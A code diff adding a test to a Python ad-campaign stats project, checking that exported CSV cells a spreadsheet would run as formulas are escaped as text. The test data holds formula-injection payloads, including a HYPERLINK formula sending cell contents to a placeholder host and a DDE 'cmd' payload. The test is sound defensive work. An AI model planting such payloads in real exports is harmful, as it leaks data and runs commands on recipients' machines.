@@ -14,6 +14,7 @@ from sqlalchemy.ext.asyncio import AsyncEngine
 from bot.i18n import make_i18n
 from bot.views import stats as view
 from core.clock import FixedClock
+from core.metrics import Totals
 from core.periods import Period
 from core.stats import (
     biggest_per_currency_first,
@@ -24,6 +25,7 @@ from core.stats import (
     summary,
     unmapped,
 )
+from core.tracker_metrics import TrackerTotals
 from core.users import SignUp, register_user
 from storage.db import session_factory
 from storage.models import (
@@ -217,3 +219,20 @@ def test_unmapped_campaigns_list_the_top_of_every_currency_first() -> None:
             ("us2", "USD", Decimal(20))]
     assert [n for n, _c, _v in biggest_per_currency_first(rows)] == [
         "jp1", "us1", "jp2", "us2", "jp3"]
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_stay_text() -> None:
+    """A campaign named `=HYPERLINK(...)` (anyone with access to the ad account can name one)
+    must not become a live formula in the buyer's spreadsheet; numbers, negative ones too,
+    stay numbers."""
+    evil = ['=HYPERLINK("http://x.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0",
+            "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]
+    rows = [(f"c{n}", name, datetime(2026, 12, 1).date(),
+             Totals(Decimal(0), 1, 0, 0, Decimal(0)),
+             TrackerTotals(Decimal(10), 1, 0, 0, 0, Decimal(5), Decimal(0)))
+            for n, name in enumerate(evil)]
+    table = list(csv.reader(io.StringIO(csv_table(rows, [str(n) for n in range(21)])
+                                        .decode("utf-8-sig"))))
+    for row, name in zip(table[1:], evil, strict=True):
+        assert row[2] == "'" + name
+        assert row[17] == "-5" and row[18] == "-50.0000"  # profit and ROI: negative numbers
